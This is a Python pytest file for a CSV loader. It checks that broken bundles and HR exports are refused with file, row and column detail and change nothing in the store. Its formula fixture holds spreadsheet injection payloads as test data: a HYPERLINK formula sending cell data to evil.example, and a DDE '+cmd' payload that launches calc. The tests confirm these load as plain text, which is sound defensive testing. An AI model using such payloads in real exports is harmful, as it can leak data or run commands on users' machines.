"""Broken bundles and HR exports: each is refused precisely, and the store is left exactly as it was.

The corpus (``tests/loaders/corpus/``, one folder per case, described in its
README) is loaded on top of Acme with a billing rule: through the loader on
both backends, and through ``buckstop load`` as a user runs it (a real process
on a real SQLite file). A refusal must name the file, row and column of every
problem and say what is wrong; afterwards the org's version, a routing answer
and every record are what they were. The one file too big to commit, a 10 MB
cell, is written by the test.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from buckstop.graph import BundleRefused, MemoryStore, Store
from buckstop.graph.errors import Problem
from buckstop.graph.model import Kind
from buckstop.graph.store import WHOLE
from buckstop.loaders import apply_bundle, load
from buckstop.queries import route

from tests.orgs import DAY, OrgBuilder, acme, ids

CORPUS = Path(__file__).parent / "corpus"
ROOT = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Expected:
    """One problem a refusal must report: where, exactly, and the gist of what it says."""

    file: str
    row: int | None
    column: str | None
    gist: str

    def matches(self, problem: Problem) -> bool:
        return (problem.file, problem.row, problem.column) == (self.file, self.row, self.column) and (
            self.gist in problem.message
        )

    def line(self) -> str:
        """How the problem starts on the command line's stderr: ``people.csv:6 [name]: …``."""
        where = self.file + (f":{self.row}" if self.row is not None else "")
        return where + (f" [{self.column}]" if self.column else "") + ": "


#: Each case of the corpus (and the generated huge cell), with every problem its refusal must list.
REFUSALS: dict[str, list[Expected]] = {
    "cut-mid-row": [Expected("people.csv", 6, "name", "ends in the middle of this row (2 of 10 cells, no line end)")],
    "cut-mid-quote": [Expected("people.csv", 8, None, "a quoted cell opened in this row is never closed")],
    "png-image": [
        Expected("people.csv", None, None, "is not a text or CSV file: it looks like a binary file (PNG image)")
    ],
    "zip-archive": [Expected("departments.csv", None, None, "is an Excel workbook, not CSV")],
    "binary-noise": [
        Expected("roles.csv", None, None, "is not a text or CSV file: it holds control characters, as binary files do")
    ],
    "huge-cell": [Expected("people.csv", 6, None, "holds a cell longer than 131,072 characters")],
    "bom-but-windows-1252": [
        Expected("people.csv", 10, "name", "byte 0xFC, which is not UTF-8 with BOM (Windows-1252 reads it as 'ü')")
    ],
    "mixed-encodings": [
        Expected("people.csv", 11, "name", "holds byte 0xE9, which is not UTF-8 (Windows-1252 reads it as 'é')")
    ],
    "bom-and-pipes": [Expected("people.csv", 1, None, "has one column 'id|name|email|")],
    "empty": [Expected("people.csv", None, None, "is empty; expected a header row")],
    "header-only": [Expected("people.csv", None, None, "lists nobody (a header and no rows), which would mark all 8")],
    "reporting-cycle": [
        Expected("people.csv", 2, "manager_id", "reporting cycle: p-cora → p-dan → p-sue → p-omar → p-cora")
    ],
    "unknown-references": [
        Expected("accounts.csv", 3, "owner_department_id", "unknown department 'd-marketing'"),
        Expected("routing.csv", 2, "target", "unknown role 'role-billling'"),
    ],
    "duplicate-ids": [
        Expected("departments.csv", 7, "id", "duplicate department id 'd-ops' (first at row 3)"),
        Expected("people.csv", 11, "id", "duplicate person id 'p-ann' (first at row 5)"),
    ],
    # HR exports, loaded as one file the way HR loads them
    "bamboohr-cut-short": [
        Expected("people.csv", 6, "lastname", "ends in the middle of this row (3 of 8 cells, no line end)")
    ],
    "workday-mixed-encodings": [
        Expected("people.csv", 7, "legal_name", "byte 0xEB, which is not UTF-8 with BOM (Windows-1252 reads it as 'ë')")
    ],
    "personio-reporting-cycle": [Expected("people.csv", 2, "supervisor", "reporting cycle: 1001 → 1003 → 1002 → 1001")],
}

#: Names and titles a spreadsheet would take for formulas: legal text, loaded as it is.
FORMULAS = {
    ("person", "p-ann", "name"): '=HYPERLINK("http://evil.example/?q="&A1,"Ann Lee")',
    ("person", "p-ann", "title"): "+cmd|' /C calc'!A0",
    ("person", "p-bob", "name"): "-2+3",
    ("person", "p-bob", "title"): "@SUM(A1:A9)",
    ("department", "d-support", "name"): "=1+1 Support",
    ("role", "role-billing", "title"): "@Billing =Specialist",
}


def base() -> OrgBuilder:
    """The org every bad file is loaded onto: Acme, with billing routed to its billing specialists."""
    return acme().rule("r-billing", "it-billing", "organization", "role:role-billing")


def source(folder: Path) -> Path:
    """What to load: an HR export on its own, as HR loads it; otherwise the bundle folder."""
    hr = folder.name.split("-")[0] in ("bamboohr", "workday", "personio")
    return folder / "people.csv" if hr else folder


@pytest.fixture(scope="module")
def cases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every case's folder: the corpus, and the huge cell written here (10 MB is too big to commit)."""
    folders = {p.name: p for p in sorted(CORPUS.iterdir()) if p.is_dir()}
    huge = tmp_path_factory.mktemp("huge-cell")
    people = (base().write(tmp_path_factory.mktemp("acme"), ["people.csv"]) / "people.csv").read_text()
    (huge / "people.csv").write_text(people.replace("Bob Roy", "Bob " + "x" * 10_000_000), newline="")
    folders["huge-cell"] = huge
    assert set(folders) == {*REFUSALS, "formulas"}, "every corpus folder needs its expected refusal here"
    return folders


@pytest.fixture(scope="module")
def base_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return base().write(tmp_path_factory.mktemp("base") / "bundle")


def state(store: Store) -> tuple[int, tuple[object, ...], dict[tuple[Kind, str], object]]:
    """What must not change: the org's version, a routing answer, and every record."""
    answer = route(store, "@AcmeHelp", "billing", on=DAY)
    shown = (answer.rule.id if answer.rule else None, ids(answer.handlers), [s.person.id for s in answer.escalation])
    org = store.read(WHOLE)
    return org.version, (*shown, answer.explanation), {(r.kind, r.id): r for r in org.records()}


@pytest.fixture
def fresh_store(
    request: pytest.FixtureRequest, backend: str, base_folder: Path, open_store: Callable[..., MemoryStore]
) -> Iterator[Store]:
    """The base org in a store of ``backend``; the Neo4j one is loaded once and kept while nothing changes it."""
    if backend == "neo4j":
        server = request.getfixturevalue("neo4j_server")
        yield server.load(base_folder, holds="bad-files base")
        return
    store = open_store()
    apply_bundle(store, base_folder)
    yield store


# -- through the loader, on both backends -----------------------------------------------


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_a_bad_file_is_refused_by_file_row_and_column_and_changes_nothing(case, cases, fresh_store):
    before = state(fresh_store)
    assert before[0] == 1 and before[1][:2] == ("r-billing", ["p-ann", "p-bob"])
    with pytest.raises(BundleRefused) as refused:
        load(fresh_store, source(cases[case]))
    problems = refused.value.problems
    expected = REFUSALS[case]
    assert len(problems) == len(expected), "\n".join(map(str, problems))
    for want, got in zip(expected, problems, strict=True):
        assert want.matches(got), f"expected {want}, got {got}"
    assert state(fresh_store) == before


@pytest.mark.parametrize("case", ["mixed-encodings", "cut-mid-row", "bamboohr-cut-short", "header-only"])
def test_a_dry_run_of_a_bad_file_lists_the_same_problems_and_changes_nothing(case, cases, fresh_store):
    before = state(fresh_store)
    done = load(fresh_store, source(cases[case]), dry_run=True)
    assert done.applied is None
    assert len(done.problems) == len(REFUSALS[case])
    assert all(want.matches(got) for want, got in zip(REFUSALS[case], done.problems, strict=True))
    assert state(fresh_store) == before


def test_formula_cells_load_as_the_text_they_are(request, backend, cases, base_folder, open_store):
    store: Store
    if backend == "neo4j":
        server = request.getfixturevalue("neo4j_server")
        store = server.load(base_folder)  # this test changes it: loaded afresh, and not kept for others
    else:
        store = open_store()
        apply_bundle(store, base_folder)
    done = load(store, cases["formulas"])
    assert done.applied is not None and done.problems == []
    org = store.read(WHOLE)
    for (kind, id, field), text in FORMULAS.items():
        assert getattr(org.get(Kind(kind), id), field) == text
    answer = route(store, "@AcmeHelp", "billing", on=DAY)
    assert [(p.name, p.title) for p in answer.handlers] == [
        ('=HYPERLINK("http://evil.example/?q="&A1,"Ann Lee")', "+cmd|' /C calc'!A0"),
        ("-2+3", "@SUM(A1:A9)"),
    ]
    explained = "\n".join(answer.explanation)
    assert "owned by =1+1 Support (d-support)" in explained
    assert 'Escalation: =HYPERLINK("http://evil.example/?q="&A1,"Ann Lee") → Sue Park' in explained


# -- through `buckstop load`, as a user runs it ----------------------------------------------


@dataclass
class Run:
    """One `buckstop load` on its own copy of the base store, and the state that store started in."""

    result: subprocess.CompletedProcess[str]
    db: Path
    before: tuple[int, tuple[object, ...], dict[tuple[Kind, str], Any]]


@pytest.fixture(scope="module")
def cli_runs(cases: dict[str, Path], base_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Run]:
    """Every case loaded by a real `buckstop load` (a few at a time: each process takes seconds to start)."""
    root = tmp_path_factory.mktemp("cli")
    template = root / "template.db"
    store = MemoryStore(template)
    apply_bundle(store, base_folder)
    store.close()  # closed, so the file alone holds the org (no write-ahead log beside it)
    before = stored_state(template)
    runs: dict[str, tuple[Path, list[str]]] = {name: (source(folder), []) for name, folder in cases.items()}
    runs["mixed-encodings --dry-run"] = (cases["mixed-encodings"], ["--dry-run"])

    def run(name: str) -> Run:
        path, extra = runs[name]
        db = root / f"{name.replace(' ', '')}.db"
        shutil.copyfile(template, db)
        env = {**os.environ, "BUCKSTOP_DB": str(db)}
        command = [sys.executable, "-m", "buckstop.api.cli", "load", str(path), *extra]
        result = subprocess.run(command, env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)
        return Run(result, db, before)

    with ThreadPoolExecutor(max_workers=4) as pool:
        return dict(zip(runs, pool.map(run, runs), strict=True))


def stored_state(db: Path) -> tuple[int, tuple[object, ...], dict[tuple[Kind, str], Any]]:
    store = MemoryStore(db)
    try:
        return state(store)
    finally:
        store.close()


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_buckstop_load_refuses_a_bad_file_in_one_message_with_exit_2(case, cli_runs):
    run = cli_runs[case]
    result = run.result
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout == ""
    first, *rest = result.stderr.rstrip("\n").split("\n")
    count = len(REFUSALS[case])
    assert first == f"buckstop: refused: {count} problem{'s' * (count > 1)}, nothing was changed"
    assert len(rest) == count
    for want, line in zip(REFUSALS[case], rest, strict=True):
        assert line.startswith("  " + want.line()) and want.gist in line, line
    assert stored_state(run.db) == run.before


@pytest.mark.slow
def test_buckstop_load_dry_run_of_undecodable_bytes_prints_the_diff_and_the_problem(cli_runs):
    result = cli_runs["mixed-encodings --dry-run"].result
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "dry run: the load has 1 problem (10 person); nothing was applied" in result.stdout
    assert "  In\ufffds Ruiz (p-ines)" in result.stdout  # the joiner, with what could not be read marked as such
    assert "  people.csv:11 [name]: holds byte 0xE9, which is not UTF-8" in result.stderr
    assert stored_state(cli_runs["mixed-encodings --dry-run"].db) == cli_runs["mixed-encodings"].before


@pytest.mark.slow
def test_buckstop_load_takes_formula_cells_as_text(cli_runs):
    run = cli_runs["formulas"]
    assert run.result.returncode == 0, run.result.stderr
    assert "the org is now version 2" in run.result.stdout
    assert "+cmd|' /C calc'!A0" in run.result.stdout  # the diff shows the new title as it is
    store = MemoryStore(run.db)
    try:
        org = store.read()
        for (kind, id, field), text in FORMULAS.items():
            assert getattr(org.get(Kind(kind), id), field) == text
    finally:
        store.close()
